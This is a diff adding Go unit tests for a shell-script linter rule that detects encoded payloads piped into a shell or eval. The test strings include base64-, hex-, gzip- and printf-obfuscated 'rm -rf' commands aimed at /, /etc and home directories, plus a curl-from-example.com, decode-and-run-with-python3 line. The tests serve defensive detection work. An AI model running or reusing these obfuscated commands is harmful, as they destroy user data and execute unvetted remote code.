@@ -0,0 +1,233 @@
+package hazardous
+
+import (
+	"testing"
+
+	"github.com/hiteshrepo/hazardous/pkg/issue"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func TestDecodeExecRule(t *testing.T) {
+	tests := []struct {
+		name         string
+		script       string
+		wantCommand  string
+		wantMessage  string
+		wantSeverity issue.Severity
+	}{
+		{
+			name:         "base64 piped into bash",
+			script:       "echo cm0gLXJmIC8= | base64 -d | bash",
+			wantCommand:  "base64 -d | bash",
+			wantMessage:  `bash runs a payload decoded with base64 -d, which decodes to "rm -rf /"`,
+			wantSeverity: issue.SeverityWarning,
+		},
+		{
+			name:         "payload held in a variable",
+			script:       "X=cm0gLXJmIC9ldGM=\necho \"$X\" | base64 -d | sh",
+			wantCommand:  "base64 -d | sh",
+			wantMessage:  `sh runs a payload decoded with base64 -d, which decodes to "rm -rf /etc"`,
+			wantSeverity: issue.SeverityWarning,
+		},
+		{
+			name:         "compressed payload",
+			script:       "echo 'H4sIAAAAAAAC/ysuTclXKMpV0C1KU9AvSyzSz8lM4gIAlBPENRUAAAA=' | base64 --decode | gunzip -c | sudo sh",
+			wantCommand:  "gunzip | sudo sh",
+			wantMessage:  `sh runs a payload decoded with base64 -d | gunzip, which decodes to "sudo rm -rf /var/lib", running as root through sudo`,
+			wantSeverity: issue.SeverityError,
+		},
+		{
+			name:         "hex from a here-string",
+			script:       "xxd -r -p <<< 726d202d7266202f | sh",
+			wantCommand:  "xxd -r -p | sh",
+			wantMessage:  `sh runs a payload decoded with xxd -r -p, which decodes to "rm -rf /"`,
+			wantSeverity: issue.SeverityWarning,
+		},
+		{
+			name:         "printf escapes into eval",
+			script:       `eval "$(printf '\x72\x6d\x20\x2d\x72\x66\x20\x2f\x65\x74\x63')"`,
+			wantCommand:  `eval "$(printf)"`,
+			wantMessage:  `eval runs a payload decoded with printf escapes, which decodes to "rm -rf /etc"`,
+			wantSeverity: issue.SeverityWarning,
+		},
+		{
+			name:         "octal escapes piped into a shell",
+			script:       `printf '\162\155 -rf ~' | sh`,
+			wantCommand:  "printf | sh",
+			wantMessage:  `sh runs a payload decoded with printf escapes, which decodes to "rm -rf ~"`,
+			wantSeverity: issue.SeverityWarning,
+		},
+		{
+			name:         "command string",
+			script:       `bash -c "$(echo cm0gLXJmIH4vCg== | openssl base64 -d)"`,
+			wantCommand:  `bash -c "$(openssl base64 -d)"`,
+			wantMessage:  `bash runs a payload decoded with openssl base64 -d, which decodes to "rm -rf ~/"`,
+			wantSeverity: issue.SeverityWarning,
+		},
+		{
+			name:         "payload only known at run time",
+			script:       `bash <(base64 -d <<< "$PAYLOAD")`,
+			wantCommand:  "bash <(base64 -d)",
+			wantMessage:  "bash runs a payload decoded with base64 -d, which cannot be inspected before it runs",
+			wantSeverity: issue.SeverityError,
+		},
+		{
+			name:         "downloaded payload",
+			script:       "curl -fsSL https://example.com/p.b64 | base64 -d | python3",
+			wantCommand:  "base64 -d | python3",
+			wantMessage:  "python3 runs a payload decoded with base64 -d, which cannot be inspected before it runs",
+			wantSeverity: issue.SeverityError,
+		},
+		{
+			name:         "payload read from the standard input of the script",
+			script:       "base64 -d | bash",
+			wantCommand:  "base64 -d | bash",
+			wantMessage:  "bash runs a payload decoded with base64 -d, which cannot be inspected before it runs",
+			wantSeverity: issue.SeverityError,
+		},
+		{
+			name:         "compressed payload read from the standard input of the script",
+			script:       "base64 -d | gunzip | sh",
+			wantCommand:  "gunzip | sh",
+			wantMessage:  "sh runs a payload decoded with base64 -d | gunzip, which cannot be inspected before it runs",
+			wantSeverity: issue.SeverityError,
+		},
+		{
+			name:         "empty here-document",
+			script:       "base64 -d <<EOF | bash\nEOF",
+			wantCommand:  "base64 -d | bash",
+			wantMessage:  `bash runs a payload decoded with base64 -d, which decodes to ""`,
+			wantSeverity: issue.SeverityWarning,
+		},
+		{
+			name:   "decoded but not run",
+			script: "echo aGVsbG8= | base64 -d > hello.txt",
+		},
+		{
+			name:   "plain text piped into a shell",
+			script: "printf 'make test\\n' | sh",
+		},
+		{
+			name:   "encoding",
+			script: "echo hello | base64 | sh",
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			issues := checkScript(t, NewRegistry(decodeExecRule), tt.script)
+			if len(tt.wantCommand) == 0 {
+				assert.Empty(t, issues)
+				return
+			}
+
+			require.Len(t, issues, 1)
+			assert.Equal(t, tt.wantCommand, issues[0].Command)
+			assert.Equal(t, tt.wantMessage, issues[0].Message)
+			assert.Equal(t, tt.wantSeverity, issues[0].Severity)
+		})
+	}
+}
+
+func TestDecodedPayloadChecked(t *testing.T) {
+	tests := []struct {
+		name        string
+		script      string
+		wantCommand string
+		wantMessage string
+		wantLine    uint
+		wantCol     uint
+	}{
+		{
+			name:        "piped into a shell",
+			script:      "set -e\necho cm0gLXJmIC8= | base64 -d | bash",
+			wantCommand: "rm -rf",
+			wantMessage: "rm -rf deletes the entire filesystem (/)",
+			wantLine:    2,
+			wantCol:     6,
+		},
+		{
+			name:        "payload held in a variable",
+			script:      "X=cm0gLXJmIC9ldGM=\necho \"$X\" | base64 -d | sh",
+			wantCommand: "rm -rf",
+			wantMessage: "rm -rf deletes the system directory /etc",
+			wantLine:    2,
+			wantCol:     6,
+		},
+		{
+			name:        "compressed and run through sudo",
+			script:      "echo 'H4sIAAAAAAAC/ysuTclXKMpV0C1KU9AvSyzSz8lM4gIAlBPENRUAAAA=' | base64 -d | gunzip | sh",
+			wantCommand: "sudo rm -rf",
+			wantMessage: "rm -rf deletes files recursively without asking for confirmation, running as root through sudo",
+			wantLine:    1,
+			wantCol:     6,
+		},
+		{
+			name:        "printf escapes into eval",
+			script:      `eval "$(printf '\x72\x6d\x20\x2d\x72\x66\x20\x2f\x65\x74\x63')"`,
+			wantCommand: "rm -rf",
+			wantMessage: "rm -rf deletes the system directory /etc",
+			wantLine:    1,
+			wantCol:     16,
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			var issues []issue.Issue
+			for _, found := range checkScript(t, DefaultRegistry, tt.script) {
+				if found.RuleID == "rm-rf" {
+					issues = append(issues, found)
+				}
+			}
+
+			require.Len(t, issues, 1)
+			assert.Equal(t, tt.wantCommand, issues[0].Command)
+			assert.Equal(t, tt.wantMessage, issues[0].Message)
+			assert.Equal(t, tt.wantLine, issues[0].Line)
+			assert.Equal(t, tt.wantCol, issues[0].Col)
+		})
+	}
+}
+
+func TestDecodedPayloadRunningItself(t *testing.T) {
+	// the payload decodes to the pipeline that decodes it
+	script := "P=ZXZhbCAiJChlY2hvICRQIHwgYmFzZTY0IC1kKSI=\neval \"$(echo $P | base64 -d)\""
+
+	issues := checkScript(t, NewRegistry(decodeExecRule), script)
+
+	require.Len(t, issues, 2)
+	for _, found := range issues {
+		assert.Equal(t, `eval runs a payload decoded with base64 -d, which decodes to "eval \"$(echo $P | base64 -d)\""`, found.Message)
+	}
+	assert.Equal(t, uint(1), issues[0].Col)
+	assert.Equal(t, uint(14), issues[1].Col)
+}
+
+func TestPrintfOutput(t *testing.T) {
+	tests := []struct {
+		format      string
+		args        []string
+		want        string
+		wantEncoded bool
+		wantOK      bool
+	}{
+		{format: `%s\n`, args: []string{"a", "b"}, want: "a\nb\n", wantOK: true},
+		{format: `\x72\x6d`, want: "rm", wantEncoded: true, wantOK: true},
+		{format: `\162m %%`, want: "rm %", wantEncoded: true, wantOK: true},
+		{format: `%b`, args: []string{`\0162m`}, want: "rm", wantEncoded: true, wantOK: true},
+		{format: `%d`, args: []string{"1"}},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.format, func(t *testing.T) {
+			got, encoded, ok := printfOutput(tt.format, tt.args)
+			assert.Equal(t, tt.wantOK, ok)
+			if ok {
+				assert.Equal(t, tt.want, got)
+				assert.Equal(t, tt.wantEncoded, encoded)
+			}
+		})
+	}
+}